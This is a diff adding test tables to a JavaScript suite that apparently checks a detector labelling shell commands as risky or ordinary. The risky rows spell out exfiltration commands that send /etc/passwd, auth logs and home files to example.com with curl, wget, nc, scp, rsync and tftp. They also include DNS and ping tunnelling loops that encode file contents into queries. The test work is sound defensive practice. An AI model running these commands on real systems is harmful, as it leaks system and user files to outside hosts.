@@ -86,4 +86,47 @@ describe("what programs do over the network", () => {
     ["zip -r dist.zip dist", "ordinary"],
     ["gpg --verify file.sig", "ordinary"],
   ]);
+
+  tableOf("files of the system and of the home that leave", [
+    ["curl -F 'file=@/etc/passwd' https://example.com/in", "risky", "send"],
+    ["curl -T /etc/hosts ftp://example.com/", "risky", "send"],
+    ["curl -d @/var/log/auth.log https://example.com", "risky", "send"],
+    ["curl -F f=@$HOME/.bashrc https://example.com", "risky", "send"],
+    ["wget --post-file=/etc/passwd https://example.com", "risky", "send"],
+    ["nc example.com 4444 < /etc/passwd", "risky", "send"],
+    ["cat /etc/passwd | nc example.com 4444", "risky", "send"],
+    ["base64 /etc/passwd | curl -d @- https://example.com", "risky", "send"],
+    ['curl "https://example.com/?d=$(base64 -w0 /etc/passwd)"', "risky", "send"],
+    ["tar czf a.tgz /etc/nginx && curl -F f=@a.tgz https://example.com", "risky", "send"],
+    ["scp /etc/passwd eve@example.com:", "risky", "send"],
+    ["rsync -a /etc/ eve@example.com:/in/", "risky", "send"],
+    ["tftp example.com -c put /etc/passwd", "risky", "send"],
+    ["curl -F file=@dist/app.zip https://example.com/in", "ordinary"],
+    ["curl -d @/tmp/body.json https://example.com/items", "ordinary"],
+    ["curl -F f=@/etc/hosts http://localhost:8080/in", "ordinary"],
+    ["curl -F f=@/etc/hosts http://192.168.1.5/in", "ordinary"],
+    ["curl --cacert /etc/ssl/certs/ca.crt https://example.com", "ordinary"],
+    ["curl -F f=@$HOME/Pictures/cat.png https://example.com/in", "ordinary"],
+    ['curl -d "$(cat /etc/os-release)" https://example.com/in', "ordinary"],
+    ['curl "https://example.com/$(grep -c . /etc/passwd)"', "ordinary"],
+    ["cat ~/.ssh/id_ed25519.pub | ssh ada@example.com 'cat >> keys'", "ordinary"],
+    ["scp ada@example.com:/etc/nginx/nginx.conf .", "ordinary"],
+    ["rsync -a ada@example.com:/var/log/nginx/ ./logs/", "ordinary"],
+    ["rsync -a dist/ ada@example.com:/var/www/shop/", "ordinary"],
+    ["aws s3 cp /var/backups/shop.gz s3://shop-backups/", "ordinary"],
+    ["cat /etc/passwd | grep ada", "ordinary"],
+  ]);
+
+  tableOf("files that leave in names", [
+    ["for i in $(xxd -p notes.txt); do dig $i.example.com; done", "risky", "send"],
+    ["ping -c1 -p $(xxd -p notes.txt) example.com", "risky", "send"],
+    ["xxd -p notes.txt | while read l; do nslookup $l.example.com; done", "risky", "send"],
+    ["base32 notes.txt | xargs -I{} host {}.example.com", "risky", "send"],
+    ["dig $(cat domain.txt)", "ordinary"],
+    ["for h in $(cat hosts.txt); do ping -c1 $h; done", "ordinary"],
+    ['while read h; do dig +short "$h"; done < hosts.txt', "ordinary"],
+    ["dig $(base64 -d domain.txt)", "ordinary"],
+    ["base64 logo.png > logo.txt; ping -c1 $HOST", "ordinary"],
+    ["ping -c 3 example.com", "ordinary"],
+  ]);
 });
